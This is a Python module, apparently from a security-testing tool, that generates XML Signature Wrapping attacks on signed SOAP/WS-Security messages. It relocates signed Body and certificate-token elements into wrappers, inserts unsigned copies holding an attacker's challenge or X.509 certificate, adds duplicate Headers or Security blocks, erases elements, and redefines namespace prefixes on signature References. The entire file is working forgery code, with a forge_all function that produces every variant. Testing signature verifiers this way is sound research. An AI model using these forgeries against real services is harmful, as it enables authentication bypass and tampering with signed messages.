"""
Construction of signature wrapping attack documents.

Every transformation works on an immutable document and returns a new one.
Signed elements are relocated with their namespace bindings made explicit,
so their exclusive canonical form (and therefore their digest) is unchanged,
and the Signature element itself is never touched except by the
prefix-redefinition probe, which only adds a namespace declaration that
exclusive canonicalization drops.
"""
import base64
import logging
from typing import List, Optional, Tuple

from attack_forge.errors import AlreadyAttacked, AttackConfigError, TargetNotFound
from attack_forge.variants import AttackKind, AttackVariant, CertificatePlacement, WrapPlacement
from config.constants import ATTACKER_NS, BASE64_ENCODING_TYPE, SOAP12_NS, WSSE_NS, X509V3_VALUE_TYPE
from structure_guard import StructureRuleSet
from xml_core import (
    NodePath,
    QName,
    XmlDocument,
    XmlNode,
    append_child,
    detach,
    element,
    insert_after,
    insert_child,
    remove_node,
    replace_node,
    text_node,
    update_node,
)
from xmldsig.layout import (
    BINARY_SECURITY_TOKEN,
    BODY,
    CHALLENGE,
    ENCODING_TYPE,
    ENVELOPE,
    HEADER,
    REFERENCE,
    SECURITY,
    VALUE_TYPE,
    choose_prefixes,
    header_paths,
    make,
    security_paths,
)

logger = logging.getLogger(__name__)


def _header(doc: XmlDocument) -> NodePath:
    headers = header_paths(doc)
    if not headers:
        raise TargetNotFound("document has no SOAP Header")
    return headers[0]


def _body(doc: XmlDocument) -> NodePath:
    if doc.root.name != ENVELOPE:
        raise TargetNotFound("document root is not a SOAP Envelope")
    bodies = doc.child_paths(doc.root_path, BODY)
    if not bodies:
        raise TargetNotFound("document has no SOAP Body")
    return bodies[0]


def _signed_token(doc: XmlDocument) -> Tuple[NodePath, NodePath]:
    """First Security block holding a BinarySecurityToken, and that token."""
    for security in security_paths(doc):
        tokens = doc.child_paths(security, BINARY_SECURITY_TOKEN)
        if tokens:
            return security, tokens[0]
    raise TargetNotFound("no Security header block carries a BinarySecurityToken")


def _wrapper(doc: XmlDocument, parent: NodePath, name: QName, content: XmlNode) -> XmlNode:
    """Wrapper element for ``content``, valid under ``parent``."""
    scope = doc.in_scope_namespaces(parent)
    if name.namespace_uri:
        prefixes, decls = choose_prefixes(scope, [("w", name.namespace_uri)])
        return element(name, prefix=prefixes[name.namespace_uri], namespace_decls=decls, children=[content])
    decls = [("", "")] if scope.get("") else []
    return element(name, namespace_decls=decls, children=[content])


def _wrapped_under(doc: XmlDocument, wrapper: QName, content: QName) -> bool:
    for _, node in doc.iter_elements():
        if node.name == wrapper and any(child.name == content for child in node.element_children()):
            return True
    return False


def _strip_ids(doc: XmlDocument, node: XmlNode) -> XmlNode:
    return node.without_attributes(doc.id_attributes)


def _with_challenge(body: XmlNode, challenge: str) -> XmlNode:
    if not any(child.name == CHALLENGE for child in body.element_children()):
        raise TargetNotFound("Body carries no Challenge")
    children = [
        child.with_children([text_node(challenge)]) if child.is_element and child.name == CHALLENGE else child
        for child in body.children
    ]
    return body.with_children(children)


def _token_node(prefixes, certificate: bytes, decls=()) -> XmlNode:
    """Unsigned token carrying ``certificate``; it has no ID, as in captured attacks."""
    return make(
        BINARY_SECURITY_TOKEN,
        prefixes,
        attributes=[(ENCODING_TYPE, BASE64_ENCODING_TYPE), (VALUE_TYPE, X509V3_VALUE_TYPE)],
        text=base64.b64encode(bytes(certificate)).decode("ascii"),
        decls=decls,
    )


def _injected_token(doc: XmlDocument, parent: NodePath, certificate: bytes) -> XmlNode:
    prefixes, decls = choose_prefixes(doc.in_scope_namespaces(parent), [("wsse", WSSE_NS)])
    return _token_node(prefixes, certificate, decls)


def _simple_ancestry_challenge(doc: XmlDocument, variant: AttackVariant) -> XmlDocument:
    header = _header(doc)
    body = _body(doc)
    if _wrapped_under(doc, variant.wrapper, BODY):
        raise AlreadyAttacked("a Body is already wrapped")
    signed_body = detach(doc, body)
    fresh_body = _with_challenge(_strip_ids(doc, doc.node_at(body)), variant.payload)
    doc = replace_node(doc, body, fresh_body)
    return append_child(doc, header, _wrapper(doc, header, variant.wrapper, signed_body))


def _sibling_value_challenge(doc: XmlDocument, variant: AttackVariant) -> XmlDocument:
    body = _body(doc)
    if len(doc.child_paths(doc.root_path, BODY)) > 1:
        raise AlreadyAttacked("Envelope already holds a second Body")
    fresh_body = _with_challenge(_strip_ids(doc, doc.node_at(body)), variant.payload)
    return insert_after(doc, body, fresh_body)


def _simple_ancestry_certificate(doc: XmlDocument, variant: AttackVariant) -> XmlDocument:
    header = _header(doc)
    security, token = _signed_token(doc)
    if _wrapped_under(doc, variant.wrapper, BINARY_SECURITY_TOKEN):
        raise AlreadyAttacked("a BinarySecurityToken is already wrapped")
    signed_token = detach(doc, token)
    doc = replace_node(doc, token, _injected_token(doc, security, variant.payload))
    return append_child(doc, header, _wrapper(doc, header, variant.wrapper, signed_token))


def _sibling_value_certificate(
    doc: XmlDocument,
    variant: AttackVariant,
    rules: Optional[StructureRuleSet],
) -> XmlDocument:
    header = _header(doc)
    security, _ = _signed_token(doc)
    placement = variant.placement

    if placement is CertificatePlacement.SAME_SECURITY:
        if len(doc.child_paths(security, BINARY_SECURITY_TOKEN)) > 1:
            raise AlreadyAttacked("Security block already holds a second token")
        # Ahead of the signed token, where first-token business logic looks
        return insert_child(doc, security, 0, _injected_token(doc, security, variant.payload))

    if placement is CertificatePlacement.TWO_SECURITY_HEADERS:
        if len(doc.child_paths(header, SECURITY)) > 1:
            raise AlreadyAttacked("Header already holds a second Security block")
        prefixes, decls = choose_prefixes(doc.in_scope_namespaces(header), [("wsse", WSSE_NS)])
        new_security = make(SECURITY, prefixes, decls=decls, children=[_token_node(prefixes, variant.payload)])
        return insert_after(doc, security, new_security)

    if rules is not None:
        limit = rules.max_occurs(ENVELOPE, HEADER)
        if limit is not None and limit < 2:
            raise AttackConfigError(f"rule set {rules.name} does not permit a second Header")
    if len(header_paths(doc)) > 1:
        raise AlreadyAttacked("Envelope already holds a second Header")
    prefixes, decls = choose_prefixes(doc.in_scope_namespaces(doc.root_path), [("soap", SOAP12_NS), ("wsse", WSSE_NS)])
    new_header = make(HEADER, prefixes, decls=decls, children=[
        make(SECURITY, prefixes, children=[_token_node(prefixes, variant.payload)]),
    ])
    return insert_after(doc, header, new_header)


def _wrapper_parent(doc: XmlDocument, target: NodePath) -> NodePath:
    headers = header_paths(doc)
    if headers and not target.contains(headers[0]):
        return headers[0]
    return doc.root_path


def _unsigned_copy(doc: XmlDocument, target: NodePath, payload) -> XmlNode:
    unsigned = _strip_ids(doc, doc.node_at(target))
    if payload is not None:
        text = payload.decode("utf-8") if isinstance(payload, bytes) else payload
        unsigned = unsigned.with_children([text_node(text)])
    return unsigned


def _sibling_container(doc: XmlDocument, target: NodePath, unsigned: XmlNode) -> XmlDocument:
    """
    Put a copy of the target's container, holding ``unsigned`` in the target's
    place, in front of the original container. The signed target stays inside
    the original container, which moves one position down.
    """
    container = target.parent
    if container is None or container.parent is None:
        raise AttackConfigError(f"{target} has no container with siblings to add")
    if len(doc.child_paths(container.parent, container.name)) > 1:
        raise AlreadyAttacked(f"{container.name} already has a same-named sibling")
    original = doc.node_at(container)
    children = []
    seen = -1
    for child in original.children:
        if child.is_element:
            seen += 1
            if seen == target.index:
                child = unsigned
        children.append(child)
    fresh = _strip_ids(doc, original).with_children(children)
    return insert_child(doc, container.parent, container.index, fresh)


def _generic_wrap(doc: XmlDocument, variant: AttackVariant) -> XmlDocument:
    target = variant.target
    if doc.find(target) is None:
        raise TargetNotFound(f"target {target} does not resolve")
    if target == doc.root_path:
        raise AttackConfigError("the document root cannot be wrapped")
    unsigned = _unsigned_copy(doc, target, variant.payload)
    if variant.wrap_placement is WrapPlacement.SIBLING_CONTAINER:
        return _sibling_container(doc, target, unsigned)
    if _wrapped_under(doc, variant.wrapper, target.name):
        raise AlreadyAttacked(f"{target.name} is already wrapped")
    signed = detach(doc, target)
    doc = replace_node(doc, target, unsigned)
    parent = _wrapper_parent(doc, target)
    return append_child(doc, parent, _wrapper(doc, parent, variant.wrapper, signed))


def _optional_element_erase(doc: XmlDocument, variant: AttackVariant) -> XmlDocument:
    target = variant.target
    if doc.find(target) is None:
        raise TargetNotFound(f"target {target} does not resolve")
    if target == doc.root_path:
        raise AttackConfigError("the document root cannot be erased")
    if _wrapped_under(doc, variant.wrapper, target.name):
        raise AlreadyAttacked(f"{target.name} is already wrapped")
    signed = detach(doc, target)
    doc = remove_node(doc, target)
    parent = _wrapper_parent(doc, target)
    return append_child(doc, parent, _wrapper(doc, parent, variant.wrapper, signed))


def _uses_prefix(node: XmlNode, prefix: str) -> bool:
    """Whether the subtree relies on the binding of ``prefix`` it inherits."""
    if (node.prefix or "") == prefix:
        return True
    if prefix and any(a.prefix == prefix for a in node.attributes):
        return True
    for child in node.element_children():
        if prefix in dict(child.namespace_decls):
            continue
        if _uses_prefix(child, prefix):
            return True
    return False


def _prefix_redefinition(doc: XmlDocument, variant: AttackVariant) -> XmlDocument:
    references = doc.paths_named(REFERENCE)
    if not references:
        raise TargetNotFound("document has no ds:Reference")
    prefix = variant.prefix if variant.prefix is not None else (doc.root.prefix or "soap")
    redefined = 0
    for path in references:
        node = doc.node_at(path)
        declared = dict(node.namespace_decls)
        if declared.get(prefix) == variant.new_uri:
            continue
        if prefix in declared:
            raise AttackConfigError(f"Reference at {path} already declares prefix {prefix!r}")
        if _uses_prefix(node, prefix):
            raise AttackConfigError(f"prefix {prefix!r} is used inside the Reference at {path}")
        decls = list(node.namespace_decls) + [(prefix, variant.new_uri)]
        doc = update_node(doc, path, lambda n, d=tuple(decls): n.with_namespace_decls(d))
        redefined += 1
    if not redefined:
        raise AlreadyAttacked(f"prefix {prefix!r} is already redefined on every Reference")
    return doc


def forge(doc: XmlDocument, variant: AttackVariant, rules: Optional[StructureRuleSet] = None) -> XmlDocument:
    """
    Apply one attack to a benign signed message.

    ``rules`` is consulted only by the second-header certificate placement,
    which is generated only when the rules permit two Headers.

    Raises:
        TargetNotFound: the attacked element is missing
        AlreadyAttacked: the document already carries this transformation
        AttackConfigError: the variant cannot apply to this document
    """
    kind = variant.kind
    if kind is AttackKind.SIMPLE_ANCESTRY_CHALLENGE:
        forged = _simple_ancestry_challenge(doc, variant)
    elif kind is AttackKind.SIBLING_VALUE_CHALLENGE:
        forged = _sibling_value_challenge(doc, variant)
    elif kind is AttackKind.SIMPLE_ANCESTRY_CERTIFICATE:
        forged = _simple_ancestry_certificate(doc, variant)
    elif kind is AttackKind.SIBLING_VALUE_CERTIFICATE:
        forged = _sibling_value_certificate(doc, variant, rules)
    elif kind is AttackKind.GENERIC_WRAP:
        forged = _generic_wrap(doc, variant)
    elif kind is AttackKind.OPTIONAL_ELEMENT_ERASE:
        forged = _optional_element_erase(doc, variant)
    elif kind is AttackKind.PREFIX_REDEFINITION:
        forged = _prefix_redefinition(doc, variant)
    else:
        raise AttackConfigError(f"unknown attack kind {kind}")
    logger.info(f"Forged {variant.label}")
    return forged


def forge_all(
    doc: XmlDocument,
    fresh_challenge: str,
    injected_cert: bytes,
    wrapper: Optional[QName] = None,
) -> List[Tuple[AttackVariant, XmlDocument]]:
    """The four PHR attacks plus the prefix-redefinition probe, in matrix order."""
    extra = {"wrapper": wrapper} if wrapper is not None else {}
    variants = [
        AttackVariant(AttackKind.SIBLING_VALUE_CHALLENGE, fresh_challenge),
        AttackVariant(AttackKind.SIBLING_VALUE_CERTIFICATE, injected_cert),
        AttackVariant(AttackKind.SIMPLE_ANCESTRY_CHALLENGE, fresh_challenge, **extra),
        AttackVariant(AttackKind.SIMPLE_ANCESTRY_CERTIFICATE, injected_cert, **extra),
        AttackVariant(AttackKind.PREFIX_REDEFINITION, new_uri=ATTACKER_NS),
    ]
    return [(variant, forge(doc, variant)) for variant in variants]
